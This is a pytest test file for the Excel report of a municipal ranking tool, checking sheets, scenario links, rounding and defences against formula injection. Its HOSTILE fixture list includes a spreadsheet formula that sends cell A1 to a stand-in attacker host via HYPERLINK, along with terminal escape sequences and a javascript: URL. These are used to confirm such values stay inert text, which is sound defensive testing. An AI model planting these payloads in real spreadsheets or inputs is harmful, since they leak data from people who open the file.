"""The Excel report: its sheets, its numbers, its formatting, and no formula injection."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell

from metrodigital.analysis import analyse
from metrodigital.cli import main
from metrodigital.criteria import criterion_keys, seed_weights
from metrodigital.params import scenario_from_params
from metrodigital.paths import DATA_DIR
from metrodigital.quotas import Quota
from metrodigital.ranking import evaluate
from metrodigital.report import build_report, report_file_name, safe_cell, scenario_link
from metrodigital.scenario import (
    Normalisation,
    Scenario,
    TieRule,
)
from metrodigital.store import SEED_WAVE_SLUG, Store
from ui.matrix import prepare_table


@pytest.mark.parametrize("text", ["=1+1", "+39 011", "-SUM(A1)", "@cmd", "-2+3 Comune"])
def test_text_that_a_spreadsheet_would_evaluate_stays_what_a_person_reads(text: str) -> None:
    assert safe_cell(text) == text  # no apostrophe: the cell's type makes it text
    assert safe_cell("Comune di Mazzè") == "Comune di Mazzè"
    assert safe_cell(-3) == -3
    assert safe_cell("\x1b]8;;http://x\x07click\x1b]8;;\x07") == "click"


def test_report_sheets_numbers_and_formatting(store: Store) -> None:
    scenario = Scenario(draws=1000)
    data = build_report(evaluate(store, scenario), store.wave(SEED_WAVE_SLUG),
                        analyse(store, scenario), link="http://localhost:8501/?ser=5")
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Parametri", "Graduatoria", "Selezione", "Robustezza"]
    params = {row[0]: row[1] for row in book["Parametri"].iter_rows(min_row=2, values_only=True)}
    assert params["Ondata"] == "METRODIGITAL 2023"
    assert len(params["SHA-256"]) == 64
    assert params["N enti da selezionare"] == 12
    assert "193" in params["Stato del pareggio al taglio"]
    assert params["Peso di Servizi"] == 5
    assert params["Robustezza: seme casuale"] == 20230321
    ranking = book["Graduatoria"]
    assert ranking.freeze_panes == "B2"
    assert ranking["A1"].font.bold
    assert ranking["B2"].value == "Unione dei Comuni Nord Est Torino" and ranking["C2"].value == 252
    assert ranking["C2"].number_format == "#,##0"  # whole scores, as the page shows them
    assert ranking.conditional_formatting
    selection = [r for r in book["Selezione"].iter_rows(min_row=2, values_only=True) if r[0]]
    assert len([r for r in selection if isinstance(r[0], int)]) == 13
    robust = book["Robustezza"]
    strambino = next(r for r in robust.iter_rows(min_row=2, values_only=True)
                     if r[0] == "Comune di Strambino")
    assert "da 3 a 5" in strambino[-1]


def test_an_entity_named_like_a_formula_stays_text(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    rows = [["=HYPERLINK(\"http://x\")", *[1] * 8], ["Comune di Beta", *[2] * 8]]
    pd.DataFrame(rows, columns=["ente", *criterion_keys()]).to_csv(path, index=False)
    out = tmp_path / "r.xlsx"
    assert main(["report", "--data", str(path), "--out", str(out), "--draws", "1000"]) == 0
    book = load_workbook(out)
    names = [c.value for c in book["Graduatoria"]["B"][1:]]
    assert "=HYPERLINK(\"http://x\")" in names
    assert all(c.data_type != "f" for row in book["Graduatoria"].iter_rows() for c in row)


def test_report_refuses_a_non_xlsx_target(tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "--out", str(tmp_path / "r.pdf")]) == 2
    assert ".xlsx" in capsys.readouterr().err


# -- the link, the tie rule, the rounding, the file name (issue: "Link allo scenario" was
# "/", a relative "/?ser=3…" or "?" from the CLI) ---------------------------------------
def parameters(book: Workbook) -> dict[object, Cell]:
    return {row[0].value: row[1] for row in book.worksheets[0].iter_rows(min_row=2)}


def run_report(tmp_path: Path, *args: str) -> Workbook:
    out = tmp_path / "r.xlsx"
    assert main(["report", "--out", str(out), "--draws", "1000", *args]) == 0
    return load_workbook(out)


def test_cli_link_is_absolute_and_reopens_the_scenario(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("METRODIGITAL_PUBLIC_URL", "https://metro.example.org/cruscotto")
    args = ["--weights", "ser=3,inf=6", "--top", "10", "--ties", "criteria:ser,org",
            "--quota", "pop1>=2", "--norm", "share", "--spread", "2", "--seed", "7"]
    book = run_report(tmp_path, *args, "--lang", "en")
    cell = parameters(book)["Link to the scenario"]
    link = urlsplit(cell.value)
    assert (link.scheme, link.netloc, link.path) == ("https", "metro.example.org", "/cruscotto")
    assert cell.hyperlink is not None and cell.hyperlink.target == cell.value  # one click
    reopened, notes = scenario_from_params(parse_qs(link.query))
    assert notes == []
    assert reopened == Scenario(
        weights={**seed_weights(), "servizi": 3, "infrastrutture": 6}, top=10,
        ties=TieRule.CRITERIA, tie_criteria=("servizi", "organizzazione"),
        quotas=(Quota("pop", 1, "min", 2),), normalisation=Normalisation.SHARE,
        spread=2, draws=1000, seed=7)
    assert parse_qs(link.query)["lang"] == ["en"]
    monkeypatch.delenv("METRODIGITAL_PUBLIC_URL")
    plain = parameters(run_report(tmp_path, "--weights", "ser=3"))["Link allo scenario"].value
    assert plain == "http://localhost:8501/?ser=3&draws=1000"
    given = run_report(tmp_path, "--url", "http://10.0.0.5:8501/")
    assert parameters(given)["Link allo scenario"].value == "http://10.0.0.5:8501/?draws=1000"


def test_a_bad_public_address_setting_is_refused_clearly(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("METRODIGITAL_PUBLIC_URL", "metro.example.org")
    assert main(["report", "--out", str(tmp_path / "r.xlsx")]) == 2
    assert "METRODIGITAL_PUBLIC_URL vale «metro.example.org»" in capsys.readouterr().err
    assert not (tmp_path / "r.xlsx").exists()
    with pytest.raises(SystemExit):
        main(["report", "--out", str(tmp_path / "r.xlsx"), "--url", "javascript:alert(1)"])
    monkeypatch.delenv("METRODIGITAL_PUBLIC_URL")
    assert main(["report", "--out", str(tmp_path / "r.xlsx"), "--draws", "200"]) == 2
    assert "la pagina Robustezza offre 1000, 10000, 50000" in capsys.readouterr().err


def test_page_link_uses_the_address_the_page_was_opened_from(store: Store) -> None:
    scenario = Scenario(weights={**seed_weights(), "servizi": 3}, spread=2)
    assert scenario_link(scenario, "it", "https://host.example/Robustezza") == \
        "https://host.example/Robustezza?ser=3&k=2"
    assert scenario_link(scenario, "en", None) == "http://localhost:8501/?ser=3&k=2&lang=en"


@pytest.mark.parametrize(("args", "it", "en"), [
    ([], "includere tutti i pari merito al taglio", "include everyone tied at the cut-off"),
    (["--ties", "criteria:ser,inf"], "spareggio per criteri, nell'ordine: Servizi e "
     "Infrastrutture", "ties broken by criteria, in order: Services and Infrastructure"),
    (["--ties", "choice", "--pick", "mazze"], "scelta manuale tra i pari merito; scelti: Mazzè",
     "manual choice among the tied; chosen: Mazzè"),
])
def test_tie_rule_is_written_in_words(tmp_path: Path, args: list[str], it: str,
                                      en: str) -> None:
    assert parameters(run_report(tmp_path, *args))["Regola di pareggio"].value.startswith(it)
    english = run_report(tmp_path, *args, "--lang", "en")
    assert parameters(english)["Tie rule"].value.startswith(en)


def test_scores_are_rounded_as_on_the_page(tmp_path: Path, store: Store) -> None:
    book = run_report(tmp_path, "--norm", "minmax")
    ranking = book["Graduatoria"]
    selection = evaluate(store, Scenario(normalisation=Normalisation.MINMAX))
    page = prepare_table(selection, "it").data.to_pandas()  # what the Matrix page shows
    for row, shown in zip(ranking.iter_rows(min_row=2), page["Punteggio"], strict=False):
        score = row[2]
        assert score.number_format == "#,##0.00"
        assert f"{score.value:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".") \
            == shown
    services = next(i for i, c in enumerate(ranking[1]) if c.value == "Servizi")
    assert all(round(r[services].value, 2) == r[services].value
               for r in ranking.iter_rows(min_row=2))


def test_report_file_name_says_wave_and_date(tmp_path: Path, store: Store) -> None:
    wave = store.wave(SEED_WAVE_SLUG)
    assert report_file_name(wave, date(2026, 3, 21)) == \
        "metrodigital_metrodigital-2023_2026-03-21.xlsx"
    assert main(["report", "--out", str(tmp_path), "--draws", "1000"]) == 0
    assert [p.name for p in tmp_path.iterdir()] == [report_file_name(wave, date.today())]


def hostile_matrix(tmp_path: Path) -> Path:
    """The source's matrix with names an attacker or an unlucky export would write."""
    rows = list(csv.reader((DATA_DIR / "seed_matrix.csv").read_text(encoding="utf-8")
                           .splitlines()))
    for index, name in enumerate(HOSTILE, start=1):
        rows[index][0] = name
    path = tmp_path / "ostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")', "-2+3 Comune",
           "\x1b]8;;http://x\x07click\x1b]8;;\x07", "+39 Comune", "@SUM(1+1)",
           "Comune \x1b[2J\x1b[31mrosso\x1b[0m", "\x9b31mC1 Comune", "\uff1dFULLWIDTH"]
READ_AS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")', "-2+3 Comune", "click",
           "+39 Comune", "@SUM(1+1)", "Comune rosso", "C1 Comune", "\uff1dFULLWIDTH"]


def test_hostile_names_in_the_report_are_text_without_an_apostrophe(tmp_path: Path) -> None:
    book = run_report(tmp_path, "--data", str(hostile_matrix(tmp_path)))
    for sheet, column in (("Graduatoria", 1), ("Selezione", 1), ("Robustezza", 0)):
        cells = {row[column].value: row[column]
                 for row in book[sheet].iter_rows(min_row=2) if row[column].value}
        for name in READ_AS:
            if sheet == "Selezione" and name not in cells:
                continue  # not selected
            cell = cells[name]  # exactly what a person reads, no leading apostrophe
            assert cell.data_type == "s", (sheet, name)
            assert cell.quotePrefix == name.startswith(("=", "+", "-", "@", "\uff1d"))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value.startswith("'"))
                assert not (isinstance(cell.value, str) and ("\x1b" in cell.value
                                                             or "\x9b" in cell.value))
